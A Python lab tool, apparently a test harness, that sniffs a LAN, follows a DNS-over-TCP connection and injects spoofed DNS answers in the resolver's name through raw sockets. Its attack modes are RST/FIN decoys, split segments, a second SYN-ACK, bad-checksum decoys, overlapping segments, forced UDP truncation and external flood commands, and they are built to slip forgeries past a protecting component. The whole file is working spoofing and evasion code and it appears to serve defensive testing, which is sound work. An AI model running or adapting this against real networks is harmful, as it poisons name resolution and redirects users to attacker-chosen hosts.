"""An on-path injector against DNS over TCP, from the attacker namespace.

It models an attacker who sees every frame of the LAN (the lab's hub: the
attacker's eth0 receives the workload's traffic with R1) and can send
packets with a spoofed source, but cannot drop or delay the real ones. It
follows the workload's TCP connection to R1 (sequence numbers from the
SYN-ACK and from R1's data), waits for the workload's query for --qname
and answers it first, in R1's name, with --answer, shaped by --attack:

  rst-split  an RST and a FIN with sequence numbers that are not where the
             next message starts (the workload's TCP ignores both), then
             the forged answer split after --split bytes of its stream
             (length prefix and DNS header), so that no segment carries
             the whole question;
  synack     a second SYN-ACK with another initial sequence number, then
             the forged answer as one whole segment;
  badsum     a decoy first: a whole, longer reply for an unprotected name
             (--decoy) at the next message start with a wrong TCP checksum,
             which the workload's TCP discards; then the forged answer as
             one whole segment at the same sequence number;
  overlap    one segment that starts before the next byte the workload
             expects: its first bytes, which the workload already has and
             drops, read as a length prefix, a reply header and a question
             for the unprotected --decoy name, a whole message that ends
             with the segment; from the next byte on it carries the forged
             answer. Judged by the segment alone it is an unprotected
             reply; the workload reads the forgery;
  relearn    overlap on a connection that carried no answer yet, after a
             SYN-ACK whose initial sequence number puts the stream's start
             where that segment starts (the workload's TCP ignores a SYN-ACK
             on an established connection).

--flood CMD (repeatable) runs CMD (split like a shell would, no shell)
before the forgery goes out and waits for it (at most --timeout seconds): a flood
of forged connections, for example tools/dw-flood --synack. With --go-file
the floods run once R1's first answer on the connection went by, and the
file is created after them (the workload, tests/lab/py/tcpask.py, waits for
it before its last question), so the flood's length does not race R1.

--force-tc first answers the workload's UDP query for the name with a
forged reply that has TC set and no records, as a blind or on-path UDP
forger can, so that the stub asks again over TCP.

Output: "; ready" once the capture is open (start the query after it),
then one line per injected packet. Exit 0 after the forged answer went
out, 1 when the query was not seen in --timeout seconds, 2 on bad usage.
Every packet is built here (struct): IPv4 and IPv6 through a raw socket
that sends the IP header as given; checksums computed here.
"""

import argparse
import os
import select
import shlex
import socket
import struct
import subprocess
import sys
import time

import dns.flags
import dns.message
import dns.name
import dns.rdataclass
import dns.rdatatype
import dns.rrset

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
FIN, SYN, RST, PSH, ACK = 0x01, 0x02, 0x04, 0x08, 0x10
MAX_FRAMES = 200000
SEQ_MASK = 0xFFFFFFFF


def log(msg):
    print(msg, flush=True)


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


class Ip:
    """Addresses of one family; builds IP packets around a transport payload."""

    def __init__(self, src, dst):
        self.fam = socket.AF_INET6 if ":" in src else socket.AF_INET
        self.src, self.dst = src, dst
        self.s = socket.inet_pton(self.fam, src)
        self.d = socket.inet_pton(self.fam, dst)

    def pseudo(self, proto, length):
        if self.fam == socket.AF_INET:
            return self.s + self.d + struct.pack("!BBH", 0, proto, length)
        return self.s + self.d + struct.pack("!IxxxB", length, proto)

    def packet(self, proto, l4):
        if self.fam == socket.AF_INET:
            hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), os.getpid() & 0xFFFF, 0, 64, proto, 0,
                              self.s, self.d)
            hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
        else:
            hdr = struct.pack("!IHBB16s16s", 6 << 28, len(l4), proto, 64, self.s, self.d)
        return hdr + l4


def tcp_segment(ip, sport, dport, seq, ack, flags, payload=b"", window=65535, bad_sum=False):
    hdr = struct.pack("!HHIIBBHHH", sport, dport, seq & SEQ_MASK, ack & SEQ_MASK, 5 << 4, flags, window, 0, 0)
    c = csum(ip.pseudo(6, len(hdr) + len(payload)) + hdr + payload)
    if bad_sum:
        c ^= 0x5555
    return ip.packet(6, hdr[:16] + struct.pack("!H", c) + hdr[18:] + payload)


def udp_datagram(ip, sport, dport, payload):
    hdr = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0)
    c = csum(ip.pseudo(17, len(hdr) + len(payload)) + hdr + payload) or 0xFFFF
    return ip.packet(17, hdr[:6] + struct.pack("!H", c) + payload)


def parse_frame(frame):
    """(proto, src, dst, sport, dport, seq, ack, flags, payload) of a TCP or UDP
    packet in an Ethernet frame, or None. Lengths are checked before use."""
    if len(frame) < 14:
        return None
    etype = struct.unpack("!H", frame[12:14])[0]
    p = frame[14:]
    if etype == 0x0800:
        if len(p) < 20 or p[0] >> 4 != 4:
            return None
        ihl, total = (p[0] & 0x0F) * 4, struct.unpack("!H", p[2:4])[0]
        if ihl < 20 or total < ihl or total > len(p) or struct.unpack("!H", p[6:8])[0] & 0x3FFF:
            return None
        fam, proto, src, dst, l4 = socket.AF_INET, p[9], p[12:16], p[16:20], p[ihl:total]
    elif etype == 0x86DD:
        if len(p) < 40 or p[0] >> 4 != 6:
            return None
        plen = struct.unpack("!H", p[4:6])[0]
        if 40 + plen > len(p):
            return None
        fam, proto, src, dst, l4 = socket.AF_INET6, p[6], p[8:24], p[24:40], p[40:40 + plen]
    else:
        return None
    src, dst = socket.inet_ntop(fam, src), socket.inet_ntop(fam, dst)
    if proto == 17 and len(l4) >= 8:
        sport, dport, ulen = struct.unpack("!HHH", l4[:6])
        if ulen < 8 or ulen > len(l4):
            return None
        return 17, src, dst, sport, dport, 0, 0, 0, l4[8:ulen]
    if proto == 6 and len(l4) >= 20:
        sport, dport, seq, ack, off, flags = struct.unpack("!HHIIBB", l4[:14])
        doff = (off >> 4) * 4
        if doff < 20 or doff > len(l4):
            return None
        return 6, src, dst, sport, dport, seq, ack, flags, l4[doff:]
    return None


def seq_after(a, b):
    return a != b and ((a - b) & SEQ_MASK) < 0x80000000


class Conn:
    """One workload connection to R1, as seen on the wire."""

    def __init__(self, cli_isn):
        self.cli_next = (cli_isn + 1) & SEQ_MASK
        self.srv_next = None
        self.stream = b""  # the workload's bytes not yet cut into messages


class Injector:
    def __init__(self, args, client, server):
        self.args = args
        self.client, self.server = client, server
        self.qname = dns.name.from_text(args.qname)
        self.qtype = dns.rdatatype.from_text(args.qtype)
        self.to_client = Ip(server, client)
        self.raw = socket.socket(self.to_client.fam, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.conns = {}
        self.cap = None
        self.flooded = False
        self.tc_sent = not args.force_tc
        self.queries = 0  # messages the workload sent over TCP, for the log

    def send(self, pkt, what):
        self.raw.sendto(pkt, (self.client, 0))
        log("; injected %s" % what)

    def asks(self, wire):
        """The query for our name in wire, or None."""
        try:
            q = dns.message.from_wire(wire)
        except Exception:
            return None
        if q.flags & dns.flags.QR or len(q.question) != 1:
            return None
        if q.question[0].name != self.qname or q.question[0].rdtype != self.qtype:
            return None
        return q

    def reply(self, query, truncated):
        r = dns.message.make_response(query, recursion_available=True)
        if truncated:
            r.flags |= dns.flags.TC
        else:
            for value in self.args.answer:
                r.answer.append(dns.rrset.from_text(self.qname, 300, dns.rdataclass.IN, self.qtype, value))
        return r.to_wire()

    def decoy(self, qid, longer_than):
        """A reply for the unprotected --decoy name (TXT), longer than the forgery."""
        q = dns.message.make_query(self.args.decoy, dns.rdatatype.TXT)
        q.id = qid
        r = dns.message.make_response(q, recursion_available=True)
        text = '"%s"' % ("x" * min(255, longer_than))
        r.answer.append(dns.rrset.from_text(dns.name.from_text(self.args.decoy), 300, dns.rdataclass.IN, dns.rdatatype.TXT, text))
        return r.to_wire()

    def on_udp(self, sport, payload):
        q = self.asks(payload)
        if q is None or self.tc_sent:
            return
        self.send(udp_datagram(self.to_client, 53, sport, self.reply(q, True)),
                  "UDP reply with TC to port %d id=%d" % (sport, q.id))
        self.tc_sent = True

    def on_tcp(self, from_client, cport, seq, ack, flags, payload):
        """Follows the connection; True once the forged answer went out."""
        c = self.conns.get(cport)
        if from_client:
            if flags & SYN and not flags & ACK:
                self.conns[cport] = Conn(seq)
                return False
            if c is None or not payload or seq != c.cli_next:
                return False
            c.cli_next = (seq + len(payload)) & SEQ_MASK
            c.stream += payload
            while len(c.stream) >= 2 and len(c.stream) >= 2 + struct.unpack("!H", c.stream[:2])[0]:
                n = 2 + struct.unpack("!H", c.stream[:2])[0]
                q, c.stream = self.asks(c.stream[2:n]), c.stream[n:]
                self.queries += 1
                if q is not None and self.tc_sent and c.srv_next is not None:
                    self.attack(c, cport, q)
                    return True
            return False
        if c is None:
            return False
        if flags & SYN and flags & ACK:
            c.srv_next = (seq + 1) & SEQ_MASK
        elif payload and c.srv_next is not None and seq_after((seq + len(payload)) & SEQ_MASK, c.srv_next):
            c.srv_next = (seq + len(payload)) & SEQ_MASK
            if self.args.go_file and self.args.flood and not self.flooded:
                self.flood_between()
        return False

    def flood_between(self):
        """The floods between two questions: the capture is reopened after them
        (the flood's own frames would have filled it), then the go-file made."""
        self.cap.close()
        self.flood()
        self.open_capture()
        with open(self.args.go_file, "w") as f:
            f.write("flooded\n")
        log("; created %s" % self.args.go_file)

    def attack(self, c, cport, query):
        ip, nxt, ack = self.to_client, c.srv_next, c.cli_next
        if self.args.attack == "rst-split":
            # In the workload's window but not its next byte: a challenge ACK, no reset.
            self.send(tcp_segment(ip, 53, cport, nxt + 1000, ack, RST | ACK), "RST seq=next+1000")
            # Wholly before the next byte: old data to the workload, dropped.
            self.send(tcp_segment(ip, 53, cport, nxt - 1000, ack, FIN | ACK), "FIN seq=next-1000")
        elif self.args.attack == "synack":
            self.send(tcp_segment(ip, 53, cport, nxt + 0x100000 - 1, ack, SYN | ACK),
                      "SYN-ACK isn=next+0x100000-1")
        if self.args.flood and not self.flooded:
            self.flood()
        wire = self.reply(query, False)
        if self.args.attack in ("overlap", "relearn"):
            self.overlap(c, cport, query, wire)
            return
        if self.args.attack == "badsum":
            decoy = self.decoy(query.id ^ 0x5A5A, len(wire))  # no outstanding query's ID
            self.send(tcp_segment(ip, 53, cport, nxt, ack, PSH | ACK, struct.pack("!H", len(decoy)) + decoy,
                                  bad_sum=True), "decoy %s, %d bytes, bad checksum" % (self.args.decoy, len(decoy)))
        stream = struct.pack("!H", len(wire)) + wire
        cut = self.args.split if self.args.attack == "rst-split" else len(stream)
        parts = [(0, stream[:cut]), (cut, stream[cut:])] if 0 < cut < len(stream) else [(0, stream)]
        for off, part in parts:
            self.send(tcp_segment(ip, 53, cport, nxt + off, ack, PSH | ACK, part),
                      "answer bytes %d..%d of %d id=%d to port %d" % (off, off + len(part), len(stream),
                                                                      query.id, cport))

    def flood(self):
        self.flooded = True
        for cmd in self.args.flood:
            t0 = time.monotonic()
            try:
                out = subprocess.run(shlex.split(cmd), stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                                     timeout=self.args.timeout, check=False)
                lines, rc = out.stdout.decode(errors="replace").splitlines(), out.returncode
            except (OSError, subprocess.TimeoutExpired) as e:
                lines, rc = [str(e)], -1
            for line in lines:
                log("; flood: %s" % line)
            log("; flood exit %d after %.3f s" % (rc, time.monotonic() - t0))

    def overlap(self, c, cport, query, wire):
        """The forgery from before the next byte, behind an unprotected reply's header;
        relearn: after a SYN-ACK whose ISN puts the stream's start there."""
        q = dns.message.make_query(self.args.decoy, dns.rdatatype.TXT)
        q.id = query.id ^ 0x5A5A
        head = q.to_wire()
        head = head[:2] + struct.pack("!H", 0x8180) + head[4:]  # a reply: QR, RD, RA
        fake = 2 + len(head)  # bytes the workload already has, read here as a prefix and header
        payload = struct.pack("!H", fake - 2 + 2 + len(wire)) + head + struct.pack("!H", len(wire)) + wire
        seq = c.srv_next - fake
        if self.args.attack == "relearn":
            self.send(tcp_segment(self.to_client, 53, cport, seq - 1, c.cli_next, SYN | ACK),
                      "SYN-ACK isn=next-%d" % (fake + 1))
        self.send(tcp_segment(self.to_client, 53, cport, seq, c.cli_next, PSH | ACK, payload),
                  "answer id=%d to port %d from seq next-%d behind a %s reply" % (
                      query.id, cport, fake, self.args.decoy))

    def open_capture(self):
        self.cap = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
        self.cap.bind((self.args.iface, 0))

    def run(self):
        self.open_capture()
        log("; ready: watching %s for %s %s from %s" % (self.args.iface, self.qname,
                                                          dns.rdatatype.to_text(self.qtype), self.client))
        deadline = time.monotonic() + self.args.timeout
        for _ in range(MAX_FRAMES):
            left = deadline - time.monotonic()
            if left <= 0 or not select.select([self.cap], [], [], left)[0]:
                break
            frame, addr = self.cap.recvfrom(65535)
            if addr[2] == PACKET_OUTGOING:
                continue  # our own injections
            got = parse_frame(frame)
            if not got:
                continue
            proto, src, dst, sport, dport, seq, ack, flags, payload = got
            if src == self.client and dst == self.server and dport == 53:
                if proto == 17:
                    self.on_udp(sport, payload)
                elif self.on_tcp(True, sport, seq, ack, flags, payload):
                    return 0
            elif src == self.server and dst == self.client and sport == 53 and proto == 6:
                self.on_tcp(False, dport, seq, ack, flags, payload)
        log("; no TCP query for %s seen within %.1f s (%d connections, %d messages%s)" % (
            self.qname, self.args.timeout, len(self.conns), self.queries,
            "" if not self.args.force_tc else ", TC reply sent" if self.tc_sent else ", no UDP query"))
        return 1


def canon(addr):
    fam = socket.AF_INET6 if ":" in addr else socket.AF_INET
    return socket.inet_ntop(fam, socket.inet_pton(fam, addr))


def main():
    ap = argparse.ArgumentParser(prog="tests/lab/inject")
    ap.add_argument("--qname", required=True)
    ap.add_argument("--qtype", default="A")
    ap.add_argument("--answer", action="append", required=True, help="forged rdata in text, repeatable")
    ap.add_argument("--attack", choices=("rst-split", "synack", "badsum", "overlap", "relearn"), required=True)
    ap.add_argument("--flood", metavar="CMD", action="append", default=[],
                    help="run CMD before the forgery goes out (repeatable, in order)")
    ap.add_argument("--decoy", default="www.example.test", help="badsum: the unprotected name of the decoy")
    ap.add_argument("--split", type=int, default=12, metavar="BYTES",
                    help="rst-split: bytes of the stream (length prefix included) in the first segment")
    ap.add_argument("--go-file", help="with --flood: flood after R1's first answer, then create this file")
    ap.add_argument("--force-tc", action="store_true", help="first answer the UDP query with TC set")
    ap.add_argument("--ipv6", action="store_true")
    ap.add_argument("--src", help="the resolver (default R1)")
    ap.add_argument("--dst", help="the workload (default the lab's)")
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--timeout", type=float, default=8.0)
    args = ap.parse_args()
    sfx = "IP6" if args.ipv6 else "IP4"
    server = args.src or os.environ.get("RESOLVER_" + sfx)
    client = args.dst or os.environ.get("WORKLOAD_" + sfx)
    if not server or not client:
        print("inject: no --src/--dst and no lab environment", file=sys.stderr)
        return 2
    if not 0 < args.timeout <= 60 or not 2 <= args.split <= 512:
        print("inject: --timeout must be in (0, 60], --split in 2..512", file=sys.stderr)
        return 2
    return Injector(args, canon(client), canon(server)).run()


if __name__ == "__main__":
    sys.exit(main())
